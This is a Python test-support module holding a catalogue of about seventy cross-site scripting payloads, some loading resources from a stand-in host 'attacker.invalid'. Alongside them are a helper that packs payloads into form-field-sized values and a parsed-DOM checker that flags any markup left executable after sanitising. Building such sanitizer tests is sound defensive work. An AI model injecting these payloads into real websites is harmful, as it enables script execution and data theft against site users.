"""
Cross-site scripting payloads, and a parsed-DOM check that none of them
came out executable.

Every payload that can run calls `__xss()` (the browser pass exposes that
function and asserts it was never called) and carries the marker "xss", so
a check can tell content from the site's own markup. Each one is shorter
than the shortest text field it goes into (200 characters).
"""

import json
import re

import lxml.html

MARKER = "xss"

PAYLOADS = [
    # Script elements, plain and disguised.
    "<script>__xss(1)</script>",
    "<SCRIPT>__xss(2)</SCRIPT>",
    "<script src=//attacker.invalid/xss.js></script>",
    '<script type="module">__xss(4)</script>',
    "<scr<script>ipt>__xss(5)</scr</script>ipt>",
    "<script>/*xss*/__xss(6)//",
    "</script><script>__xss(7)</script>",
    '"><script>__xss(8)</script>',
    "'><script>__xss(9)</script>",
    "</title><script>__xss(10)</script>",
    "</textarea><script>__xss(11)</script>",
    "</noscript><script>__xss(12)</script>",
    "<!--<script>__xss(13)</script>-->",
    "]]><script>__xss(14)</script>",
    # Event handlers.
    "<img src=x onerror=__xss(15)>",
    '<img src="x" onerror="__xss(16)" alt="xss">',
    "<IMG SRC=x OnErRoR=__xss(17)>",
    "<img/src=x/onerror=__xss(18)>",
    "<body onload=__xss(19)>",
    "<div onmouseover=__xss(20)>xss</div>",
    "<input autofocus onfocus=__xss(21)>",
    "<details open ontoggle=__xss(22)>xss</details>",
    "<video><source onerror=__xss(23)></video>",
    "<audio src=x onerror=__xss(24)>",
    "<marquee onstart=__xss(25)>xss</marquee>",
    "<select autofocus onfocus=__xss(26)></select>",
    "<p onclick=__xss(27)>xss</p>",
    # Attribute breakouts (for values rendered inside attributes).
    '" onmouseover="__xss(28)',
    "' onmouseover='__xss(29)",
    '" autofocus onfocus="__xss(30)" x="',
    '"/><img src=x onerror=__xss(31)>',
    "`onmouseover=__xss(32)",
    # javascript: and data: URLs.
    '<a href="javascript:__xss(33)">xss</a>',
    '<a href="JaVaScRiPt:__xss(34)">xss</a>',
    '<a href="  javascript:__xss(35)">xss</a>',
    '<a href="java&#x09;script:__xss(36)">xss</a>',
    '<a href="&#106;avascript:__xss(37)">xss</a>',
    '<a href="data:text/html,<script>__xss(38)</script>">xss</a>',
    '<a href="vbscript:__xss(39)">xss</a>',
    "javascript:__xss(40)",
    '<form action="javascript:__xss(41)"><button>xss</button></form>',
    '<button formaction="javascript:__xss(42)">xss</button>',
    # SVG and MathML.
    "<svg onload=__xss(43)>",
    "<svg><script>__xss(44)</script></svg>",
    '<svg><a xlink:href="javascript:__xss(45)"><text>xss</text></a></svg>',
    "<svg><animate onbegin=__xss(46) attributeName=x dur=1s>",
    "<math><mtext><img src=x onerror=__xss(47)></mtext></math>",
    # Style.
    "<style>@import 'javascript:__xss(48)';</style>",
    "<style>*{background:url('//attacker.invalid/xss')}</style>",
    '<div style="background:url(javascript:__xss(50))">xss</div>',
    '<p style="x:expression(__xss(51))">xss</p>',
    # Frames, objects, embeds, base, meta.
    '<iframe src="javascript:__xss(52)"></iframe>',
    '<iframe srcdoc="<script>parent.__xss(53)</script>"></iframe>',
    '<object data="javascript:__xss(54)"></object>',
    '<embed src="data:text/html,<script>__xss(55)</script>">',
    '<base href="//attacker.invalid/xss/">',
    '<meta http-equiv="refresh" content="0;url=javascript:__xss(57)">',
    '<link rel="stylesheet" href="//attacker.invalid/xss.css">',
    # Broken and nested markup the sanitizer must not reassemble.
    "<<img src=x onerror=__xss(59)>>",
    '<img src="x" alt="</p><img src=x onerror=__xss(60)>">',
    "<p>xss<img src=x onerror=__xss(61)",
    '<noscript><p title="</noscript><img src=x onerror=__xss(62)>">',
    '<a href="https://example.org" onclick="__xss(63)">xss</a>',
    # Rich-text tricks: allowed formatting around a dangerous part.
    "<p><strong>xss</strong><img src=x onerror=__xss(64)></p>",
    '<p><a href="javascript:__xss(65)"><em>xss</em></a></p>',
    "<blockquote><p>xss</p><script>__xss(66)</script></blockquote>",
    "<ul><li>xss<svg onload=__xss(67)></li></ul>",
    '<h2 onclick="__xss(68)">xss</h2>',
    # JSON-LD and script-context breakouts.
    '</script><img src=x onerror=__xss(69)>{"a":"xss"}',
    '"}]</script><script>__xss(70)</script>',
    "\\u003c/script\\u003e<script>__xss(71)</script>",
    # Template injection: stored text is never a template.
    "{{ 7|add:7 }}xss{% debug %}",
    "{% load static %}{{ request.META }}xss",
    "${7*7}xss#{7*7}<%= 7*7 %>",
]

GROUP_LENGTH = 190  # the shortest field's 200, less the " v2" of the source change


def payload_groups(payloads, limit=GROUP_LENGTH):
    """
    The payloads in groups that fit a field of `limit` characters once
    joined by spaces: one field value carries a whole group.
    """
    groups, current = [], []
    for payload in payloads:
        if current and len(" ".join([*current, payload])) > limit:
            groups.append(current)
            current = []
        current.append(payload)
    return [*groups, current] if current else groups


GROUPS = payload_groups(PAYLOADS)
VALUES = [" ".join(group) for group in GROUPS]


DANGEROUS_SCHEMES = ("javascript:", "vbscript:", "data:")
URL_ATTRIBUTES = {
    "href",
    "src",
    "action",
    "formaction",
    "data",
    "poster",
    "background",
    "srcset",
    "xlink:href",
    "{http://www.w3.org/1999/xlink}href",
}
FORBIDDEN_ELEMENTS = {"iframe", "frame", "frameset", "object", "embed", "applet", "base"}
# Schemes are compared without the characters browsers ignore inside them.
IGNORED_IN_SCHEME = re.compile(r"[\x00-\x20\x7f]+")


def _scheme_is_dangerous(value):
    squeezed = IGNORED_IN_SCHEME.sub("", value).lower()
    for candidate in (squeezed, *(part.strip().split(" ")[0] for part in squeezed.split(","))):
        if candidate.startswith(DANGEROUS_SCHEMES) and not candidate.startswith("data:image/"):
            return True
    return False


LOADING_RELS = {"stylesheet", "import", "preload", "modulepreload", "prefetch", "manifest"}


def _loads_foreign(attributes, static_url):
    """A <link> that loads a resource from anywhere but our static files."""
    rels = set(attributes.get("rel", "").lower().split())
    return bool(rels & LOADING_RELS) and not attributes.get("href", "").startswith(static_url)


def executable_markup(html, *, static_url="/static/", own_scripts=()):
    """
    What in `html`, parsed as a browser would, could run a script or load
    an attacker's resource: a list of descriptions, empty when none.

    Allowed: <script> elements loading our own static files (or the few
    same-origin addresses in `own_scripts`), JSON-LD data blocks whose text
    is valid JSON, inline scripts that carry no payload; <style> without a
    payload; data:image/ URLs (our own placeholders).
    """
    found = []
    if not html.strip():
        return found
    root = lxml.html.document_fromstring(html)
    for element in root.iter():
        if not isinstance(element.tag, str):
            continue  # comments and processing instructions are inert
        tag = element.tag.rsplit("}", 1)[-1].lower()
        attributes = {str(key).lower(): value for key, value in element.attrib.items()}
        for name, value in attributes.items():
            if name.startswith("on") or (name in URL_ATTRIBUTES and _scheme_is_dangerous(value)):
                found.append(f"<{tag} {name}={value[:60]!r}>")
            elif name == "style" and re.search(
                r"expression\(|javascript:|url\(", value, re.IGNORECASE
            ):
                found.append(f"<{tag} style={value[:60]!r}>")
            elif name == "srcdoc":
                found.append(f"<{tag} srcdoc>")
        if tag in FORBIDDEN_ELEMENTS:
            found.append(f"<{tag}>")
        elif tag == "meta" and attributes.get("http-equiv", "").lower() == "refresh":
            found.append("<meta http-equiv=refresh>")
        elif tag == "link" and _loads_foreign(attributes, static_url):
            found.append(f"<link href={attributes['href'][:60]!r}>")
        elif tag == "style" and MARKER in (element.text or "").lower():
            found.append("<style> from content")
        elif tag == "script":
            found.extend(_script_problem(element, attributes, static_url, own_scripts))
    return found


def _script_problem(element, attributes, static_url, own_scripts):
    src = attributes.get("src")
    text = element.text or ""
    if src is not None:
        if src.startswith(static_url) or src in own_scripts:
            return []
        return [f"<script src={src[:60]!r}>"]
    if attributes.get("type") == "application/ld+json":
        try:
            json.loads(text)
        except ValueError:
            return [f"JSON-LD that is not JSON: {text[:80]!r}"]
        return []
    if MARKER in text.lower():
        return [f"<script>{text[:60]!r}</script>"]
    return []


def json_strings(data):
    """Every string in a parsed JSON value, depth first."""
    if isinstance(data, str):
        yield data
    elif isinstance(data, dict):
        for item in data.values():
            yield from json_strings(item)
    elif isinstance(data, list):
        for item in data:
            yield from json_strings(item)


def json_ld_blocks(html):
    root = lxml.html.document_fromstring(html)
    return [
        json.loads(script.text or "")
        for script in root.iter("script")
        if script.get("type") == "application/ld+json"
    ]
